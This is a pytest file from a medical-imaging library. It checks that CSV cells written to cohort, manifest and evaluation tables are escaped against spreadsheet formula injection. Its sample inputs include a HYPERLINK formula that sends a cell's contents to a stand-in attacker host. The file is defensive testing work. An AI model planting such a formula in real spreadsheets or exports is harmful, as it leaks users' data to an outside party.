"""Names from somebody else are no formulas in the tables that we write."""

from __future__ import annotations

import csv

import pytest

from EfficientMedSAM2Lib.imaging.formats.files import csv_cell, from_csv_cell

FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", " =1", "\t=1", "\r=1", "＝1"]
PLAIN = ["liver", "a-b", "a=b", "'quoted", "", "Segment_1", 3, -2.5, None]


def cells(path):
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


@pytest.mark.parametrize("value", FORMULAS + PLAIN)
def test_a_cell_is_text_and_can_be_read_back(value):
    cell = csv_cell(value)
    if value in FORMULAS:
        assert cell == f"'{value}"
    else:
        assert cell is value
    if isinstance(value, str):
        assert from_csv_cell(cell) == value


def test_no_table_of_a_cohort_holds_a_formula(tmp_path):
    from EfficientMedSAM2Lib.cohort.records.outcome import CaseOutcome
    from EfficientMedSAM2Lib.cohort.results.tables import write_tables

    record = {"image": "-scan.nii", "segments": [{"segment": FORMULAS[0], "message": "@x", "intensity_mean": -3.5}]}
    write_tables(
        tmp_path, [CaseOutcome("=case", "", "done", record=record), CaseOutcome("+bad", "", "failed", reason="=why")]
    )
    for name in ("measurements.csv", "failures.csv"):
        found = cells(tmp_path / name)
        assert not [cell for cell in found if cell.startswith(("=", "+", "@", "-")) and cell != "-3.5"]
    assert "-3.5" in cells(tmp_path / "measurements.csv")  # a number stays one


def test_a_manifest_means_the_files_that_it_was_made_of(tmp_path):
    from EfficientMedSAM2Lib.cohort.manifest.create import create_manifest
    from EfficientMedSAM2Lib.cohort.manifest.read import csv_lines

    (tmp_path / "=1.nii.gz").write_bytes(b"scan")
    (tmp_path / "=1.mrk.json").write_text('{"markups": []}')
    create_manifest(tmp_path, tmp_path / "manifest.csv")
    assert not [cell for cell in cells(tmp_path / "manifest.csv") if cell.startswith("=")]
    ((_, line),) = csv_lines(tmp_path / "manifest.csv")
    assert (line["image"], line["prompts"]) == ("=1.nii.gz", "=1.mrk.json")


def test_an_evaluation_holds_no_formula(tmp_path):
    from types import SimpleNamespace

    import numpy as np

    pytest.importorskip("monai", reason="needs the extra eval")
    from EfficientMedSAM2Lib.evaluation.report.tables import write_csv

    image = SimpleNamespace(dataset="=d", name="@n", modality="+m")
    case = SimpleNamespace(image=image, label="-l", axis=0, index=1, mask=np.ones(2), size="small", compact=True)
    write_csv(
        tmp_path / "r.csv", [SimpleNamespace(model="=m", case=case, values={"dice": -0.5}, score_pairs=[], seconds=1)]
    )
    found = cells(tmp_path / "r.csv")
    assert {"'=m", "'=d", "'@n", "'+m", "'-l", "-0.50000"} <= set(found)
